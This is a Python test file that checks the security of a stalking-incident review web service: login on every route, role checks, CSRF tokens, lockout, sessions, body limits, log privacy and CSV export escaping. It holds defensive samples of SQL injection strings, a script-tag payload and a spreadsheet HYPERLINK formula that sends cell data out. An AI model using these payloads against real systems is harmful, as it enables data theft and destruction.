"""The review service refuses what it should: anonymous requests on every route, the wrong
role, forms without their CSRF token, markup in notes, SQL in filters, password guessing,
stale or ended sessions, oversized bodies, and personal data in logs or the audit trail."""

from __future__ import annotations

import datetime as dt
import logging
import re
import sqlite3
from contextlib import closing
from io import StringIO

import pandas as pd
import pytest
from fastapi.routing import APIRoute
from sqlalchemy import func, select, text, update
from sqlalchemy.exc import DatabaseError
from starlette.routing import Mount, Route

from stalkflag.io import write_frame
from stalkflag.review import audit_table
from stalkflag.review._auth import MAX_FAILED_LOGINS, SESSION_IDLE
from stalkflag.review._db import Decision, Incident, LoginSession, Pattern, User, now
from stalkflag.service._security import COOKIE, MAX_BODY
from tests.service.conftest import MARKUP, PASSWORD, cli, csrf_of, login, sqlite_url

ANONYMOUS = {("GET", "/v1/health"), ("GET", "/login"), ("POST", "/login")}
"""The only routes that answer without a login (besides the static files)."""


def _store(app):
    return app.state.store


def _marked_case(app, marked: frozenset[str]) -> int:
    with _store(app).session() as db:
        found = db.scalar(select(Incident.pattern_id).where(Incident.incident_id.in_(marked)))
    assert found is not None, "no marked incident was imported: the fixture must place one"
    return found


def _first_case(app) -> Pattern:
    with _store(app).session() as db:
        return db.scalars(select(Pattern).order_by(Pattern.score.desc(), Pattern.id)).first()


def _routes(app) -> list[tuple[str, str]]:
    """Every (method, path) the application answers, path parameters filled with 1."""
    found = []
    for route in app.routes:
        if isinstance(route, Mount):
            continue  # the static files: public by design
        assert isinstance(route, APIRoute | Route), route
        path = re.sub(r"\{[^}]+\}", "1", route.path)
        found.extend((m, path) for m in sorted(route.methods or ()) if m != "HEAD")
    return found


# -- who may do what -------------------------------------------------------------------------


def test_every_route_refuses_an_anonymous_request(app, client):
    routes = _routes(app)
    assert {("GET", "/queue"), ("POST", "/cases/1/decision"), ("POST", "/v1/score")} <= set(routes)
    checked = 0
    for method, path in routes:
        if (method, path) in ANONYMOUS:
            continue
        response = client.request(method, path)
        checked += 1
        if path.startswith("/v1/"):
            assert response.status_code == 401, (method, path, response.status_code)
            assert response.headers["content-type"].startswith("application/json")
        else:
            assert response.status_code == 303, (method, path, response.status_code)
            assert response.headers["location"] == "/login", (method, path)
    assert checked >= 12
    assert client.get("/v1/health").json()["status"] == "ok"
    assert client.get("/static/keys.js").status_code == 200
    # a token that is not one is no better than none
    assert (
        client.get("/v1/patterns/1", headers={"Authorization": "Bearer sfk_x"}).status_code == 401
    )


def test_an_auditor_cannot_manage_users_nor_export_the_audit_trail(app, as_role):
    auditor = as_role("auditor")
    csrf = csrf_of(auditor.get("/queue").text)
    with _store(app).session() as db:
        users = db.scalar(select(func.count()).select_from(User))
    assert auditor.get("/users").status_code == 403
    added = auditor.post(
        "/users", data={"username": "mallory", "password": PASSWORD, "role": "admin", "csrf": csrf}
    )
    assert added.status_code == 403
    assert auditor.get("/audit").status_code == 403
    assert auditor.get("/exports/audit.csv").status_code == 403
    with _store(app).session() as db:
        assert db.scalar(select(func.count()).select_from(User)) == users
        refused = audit_table(db).query("action == 'refused' and username == 'auditor'")
    assert set(refused["outcome"]) == {"403"} and len(refused) == 4


def test_an_analyst_cannot_decide(app, as_role):
    analyst = as_role("analyst")
    first = _first_case(app)
    page = analyst.get(f"/cases/{first.id}")
    assert page.status_code == 200 and 'name="decision"' not in page.text
    response = analyst.post(
        f"/cases/{first.id}/decision", data={"decision": "confirmed", "csrf": csrf_of(page.text)}
    )
    assert response.status_code == 403
    with _store(app).session() as db:
        assert db.scalar(select(func.count()).select_from(Decision)) == 0
        assert db.get(Pattern, first.id).state == "open"


def test_a_note_holding_markup_shows_as_text(app, as_role, scored_run):
    auditor = as_role("auditor")
    page = auditor.get(f"/cases/{_marked_case(app, scored_run.marked)}")
    assert page.status_code == 200
    assert MARKUP not in page.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;&lt;b&gt;bold&lt;/b&gt;" in page.text
    assert page.text.count("<script") == 1  # the page's own keys.js, nothing from a note
    assert "script-src 'self'" in page.headers["content-security-policy"]


# -- CSRF ------------------------------------------------------------------------------------


def test_forms_without_their_csrf_token_are_refused_and_change_nothing(app, as_role):
    admin = as_role("admin")
    first = _first_case(app)
    csrf = csrf_of(admin.get(f"/cases/{first.id}").text)
    for token in (None, "", "not-the-token"):
        extra = {} if token is None else {"csrf": token}
        decided = admin.post(f"/cases/{first.id}/decision", data={"decision": "confirmed"} | extra)
        added = admin.post(
            "/users", data={"username": "mallory", "password": PASSWORD, "role": "admin"} | extra
        )
        logout = admin.post("/logout", data=extra)
        assert (decided.status_code, added.status_code, logout.status_code) == (403, 403, 403)
    with _store(app).session() as db:
        assert db.scalar(select(func.count()).select_from(Decision)) == 0
        assert db.get(Pattern, first.id).state == "open"
        assert db.scalar(select(User).where(User.username == "mallory")) is None
        assert (
            db.scalar(select(func.count()).select_from(LoginSession).where(LoginSession.ended)) == 0
        )
    assert admin.get("/queue").status_code == 200  # still signed in
    # and with the token each works
    decided = admin.post(
        f"/cases/{first.id}/decision", data={"decision": "confirmed", "csrf": csrf}
    )
    assert decided.status_code == 303
    assert admin.post("/logout", data={"csrf": csrf}).status_code == 303


def test_login_without_its_csrf_token_is_refused(client):
    assert client.get("/login").status_code == 200
    response = client.post("/login", data={"username": "admin", "password": PASSWORD})
    assert response.status_code == 403
    assert COOKIE not in client.cookies


# -- SQL in the queue's filters --------------------------------------------------------------

INJECTIONS = [
    "' OR 1=1 --",
    '"; DROP TABLE users; --',
    "x' UNION SELECT username, password_hash FROM users --",
    "1; DELETE FROM patterns",
    "%",
    "' OR ''='",
]


@pytest.mark.parametrize("value", INJECTIONS)
def test_sql_in_the_queue_filters_does_nothing(app, as_role, value):
    analyst = as_role("analyst")
    with _store(app).session() as db:
        cases = db.scalar(select(func.count()).select_from(Pattern))
    for name, limit in (("force", 128), ("flag_type", 32)):
        page = analyst.get("/queue", params={name: value[:limit], "state": ""})
        assert page.status_code == 200
        assert "No cases match." in page.text and 'class="case-link"' not in page.text
        assert "0 cases" in page.text
        if len(value) > limit:  # longer than any real value: refused before any query
            assert analyst.get("/queue", params={name: value}).status_code == 422
    for name in ("sort", "state"):  # unknown values fall back to the defaults
        page = analyst.get("/queue", params={name: value[:16]})
        assert page.status_code == 200 and 'class="case-link"' in page.text
    labels = analyst.get("/exports/labels.csv", params={"force": value})
    assert labels.status_code == 200 and labels.text.strip() == ",".join(
        ("incident_id", "label", "pair_id", "force", "decision", "decided_at")
    )
    with _store(app).session() as db:
        assert db.scalar(select(func.count()).select_from(User)) == 3
        assert db.scalar(select(func.count()).select_from(Pattern)) == cases
        assert "password_hash" not in page.text


# -- passwords and sessions ------------------------------------------------------------------


def test_five_wrong_passwords_lock_the_account_and_are_audited(app, client):
    for _ in range(MAX_FAILED_LOGINS):
        assert login(client, "auditor", "wrong password!").status_code == 401
    locked = login(client, "auditor")  # the right password, too late
    assert locked.status_code == 401 and COOKIE not in client.cookies
    assert "locked" in locked.text
    with _store(app).session() as db:
        user = db.scalar(select(User).where(User.username == "auditor"))
        assert user.locked_until is not None and user.locked_until > now()
        trail = audit_table(db).query("action == 'login' and username == 'auditor'")
    assert list(trail["outcome"]) == ["refused"] * (MAX_FAILED_LOGINS + 1)
    assert trail["detail"].str.contains("wrong password").sum() == MAX_FAILED_LOGINS
    assert trail["detail"].iloc[-1] == "locked"
    # other accounts are not locked by it
    assert login(client, "analyst").status_code == 303


def test_the_audit_trail_refuses_update_and_delete(app, as_role):
    as_role("admin")  # a login: one event at least
    engine = _store(app).engine
    with engine.connect() as connection:
        before = connection.execute(text("SELECT count(*) FROM audit_events")).scalar_one()
    assert before >= 1
    for statement in (
        "UPDATE audit_events SET outcome = 'ok', detail = 'rewritten'",
        "DELETE FROM audit_events",
        "DELETE FROM audit_events WHERE id = 1",
    ):
        with pytest.raises(DatabaseError, match="append-only"), engine.begin() as connection:
            connection.execute(text(statement))
    with engine.connect() as connection:
        assert connection.execute(text("SELECT count(*) FROM audit_events")).scalar_one() == before
        assert (
            connection.execute(
                text("SELECT count(*) FROM audit_events WHERE detail = 'rewritten'")
            ).scalar_one()
            == 0
        )


@pytest.mark.parametrize(
    "change",
    [
        {"last_seen_at": now() - SESSION_IDLE - dt.timedelta(seconds=1)},
        {"expires_at": now() - dt.timedelta(seconds=1)},
    ],
    ids=["idle", "past-its-end"],
)
def test_a_session_expires(app, as_role, change):
    auditor = as_role("auditor")
    assert auditor.get("/queue").status_code == 200
    with _store(app).session() as db:
        db.execute(update(LoginSession).values(**change))
    response = auditor.get("/queue")
    assert response.status_code == 303 and response.headers["location"] == "/login"
    assert auditor.get("/v1/patterns/1").status_code == 401


def test_logout_ends_the_session_on_the_server(app, as_role):
    auditor = as_role("auditor")
    cookie = auditor.cookies[COOKIE]
    csrf = csrf_of(auditor.get("/queue").text)
    assert auditor.post("/logout", data={"csrf": csrf}).status_code == 303
    auditor.cookies.set(COOKIE, cookie)  # a copy of the cookie kept from before
    response = auditor.get("/queue")
    assert response.status_code == 303 and response.headers["location"] == "/login"
    with _store(app).session() as db:
        assert db.scalars(select(LoginSession.ended)).all() == [True]


def test_changes_are_committed_before_the_answer_is_sent(app, db_url):
    """A browser follows a login's or a decision's redirect at once: by the time the answer
    starts, the session and the decision must be in the database for any other connection."""
    from fastapi.testclient import TestClient

    def count(table: str) -> int:
        with closing(sqlite3.connect(db_url.removeprefix("sqlite:///"))) as connection:
            return connection.execute(f"SELECT count(*) FROM {table}").fetchone()[0]

    seen: list[tuple[str, int, int]] = []

    async def watched(scope, receive, send):
        async def look_then_send(message):
            if message["type"] == "http.response.start" and scope["method"] == "POST":
                seen.append((scope["path"], count("login_sessions"), count("decisions")))
            await send(message)

        await app(scope, receive, look_then_send)

    first = _first_case(app)
    with TestClient(watched, follow_redirects=False) as client:
        assert login(client, "auditor").status_code == 303
        csrf = csrf_of(client.get(f"/cases/{first.id}").text)
        decided = client.post(
            f"/cases/{first.id}/decision", data={"decision": "not_stalking", "csrf": csrf}
        )
        assert decided.status_code == 303
    assert seen == [("/login", 1, 0), (f"/cases/{first.id}/decision", 1, 1)]


# -- request size ----------------------------------------------------------------------------


def test_a_body_over_the_limit_is_refused(app, client, as_role):
    analyst = as_role("analyst")
    big = b'{"incidents": [' + b" " * MAX_BODY + b"]}"
    response = analyst.post("/v1/score", content=big, headers={"content-type": "application/json"})
    assert response.status_code == 413
    # sent in chunks, with no Content-Length to check beforehand
    chunks = (big[i : i + 65536] for i in range(0, len(big), 65536))
    response = analyst.post(
        "/v1/score", content=chunks, headers={"content-type": "application/json"}
    )
    assert response.status_code == 413
    page = analyst.post("/logout", content=b"csrf=" + b"x" * MAX_BODY)
    assert page.status_code == 413
    # a body under the limit still reaches the application
    small = analyst.post("/v1/score", content=b"{}", headers={"content-type": "application/json"})
    assert small.status_code == 422


# -- personal data stays out of logs and the audit trail -------------------------------------


def _personal(scored_run, incident_ids) -> list[str]:
    """Names and note snippets of some incidents: what must not leak."""
    rows = scored_run.export[scored_run.export["incident_id"].isin(set(incident_ids))]
    names = {n for c in ("victim_name", "suspect_name") for n in rows[c] if len(str(n)) > 5}
    snippets = {n[len(n) // 2 : len(n) // 2 + 24] for n in rows["notes"] if len(n) > 60}
    return sorted(names | snippets)


def test_no_name_or_note_in_the_logs_or_the_audit_trail(scored_run, tmp_path, caplog):
    from fastapi.testclient import TestClient

    from stalkflag.review import Store, add_user, create_token
    from stalkflag.service import create_app

    caplog.set_level(logging.DEBUG)  # as `stalkflag -v serve` logs, and more than without -v
    url = sqlite_url(tmp_path / "fresh.db")
    some_rows = scored_run.export.head(60)
    some = write_frame(some_rows, tmp_path / "some.csv")
    printed = cli(
        "score", str(some), "--out", str(tmp_path / "some"), "--model", str(scored_run.model)
    )
    printed += cli("review", "import", str(scored_run.scored), "--db", url)
    store = Store(url)
    with store.session() as db:
        add_user(db, "auditor", PASSWORD, "auditor")
        add_user(db, "analyst", PASSWORD, "analyst")
        token, _ = create_token(db, "analyst", "test")
        first = db.scalars(select(Pattern).order_by(Pattern.score.desc())).first()
        shown = [i.incident_id for i in first.timeline]
    store.dispose()
    sent = scored_run.export.head(3)
    app = create_app(url, model=str(scored_run.model))
    with TestClient(app, follow_redirects=False) as client:
        assert login(client, "auditor").status_code == 303
        page = client.get(f"/cases/{first.id}")
        assert page.status_code == 200
        decided = client.post(
            f"/cases/{first.id}/decision",
            data={
                "decision": "confirmed",
                "reclassify": "yes",
                "rejected_links": shown[:1],
                "csrf": csrf_of(page.text),
            },
        )
        assert decided.status_code == 303
        scored = client.post(
            "/v1/score",
            headers={"Authorization": f"Bearer {token}"},
            json={"incidents": sent.drop(columns="label").fillna("").to_dict("records")},
        )
        assert scored.status_code == 200, scored.text
        assert all(r["status"] == "scored" for r in scored.json()["results"])
        with app.state.store.session() as db:
            trail = audit_table(db)
    app.state.store.dispose()
    assert {"import", "login", "view_case", "decide", "score"} <= set(trail["action"])
    secrets = _personal(scored_run, [*shown, *sent["incident_id"], *some_rows["incident_id"]])
    assert len(secrets) > 10
    logged = caplog.text
    assert logged.strip(), "nothing was logged: the capture is not working"
    assert [s for s in secrets if s in logged] == []
    assert [s for s in secrets if s in printed] == []
    in_trail = trail.astype(str).to_csv(index=False)
    assert [s for s in secrets if s in in_trail] == []
    assert not re.search(r"PN\d{7}", in_trail)  # no person's id either


def test_exports_are_safe_to_open_in_a_spreadsheet(app, client, as_role):
    """What anyone can type ends up in an export: a username tried at the login page goes to
    the audit trail, an auditor's reason to the corrections. None may run as a formula."""
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    assert login(client, formula, "whatever it is").status_code == 401
    admin = as_role("admin")
    first = _first_case(app)
    csrf = csrf_of(admin.get(f"/cases/{first.id}").text)
    decided = admin.post(
        f"/cases/{first.id}/decision",
        data={"decision": "confirmed", "reclassify": "yes", "correction_reason": "+1+cmd",
              "csrf": csrf},
    )  # fmt: skip
    assert decided.status_code == 303
    for name in ("audit", "labels", "corrections"):
        response = admin.get(f"/exports/{name}.csv")
        assert response.status_code == 200
        assert response.headers["content-disposition"] == f'attachment; filename="{name}.csv"'
        table = pd.read_csv(StringIO(response.text), dtype=str, keep_default_na=False)
        assert len(table), name
        cells = [v for column in table.columns for v in table[column]]
        assert not [v for v in cells if v[:1] in ("=", "+", "-", "@")], name
    trail = pd.read_csv(StringIO(admin.get("/exports/audit.csv").text), dtype=str)
    assert list(trail.columns) == ["id", "at", "username", "action", "target", "outcome",
                                   "client", "detail"]  # fmt: skip
    assert "'" + formula.lower() in set(trail["username"])
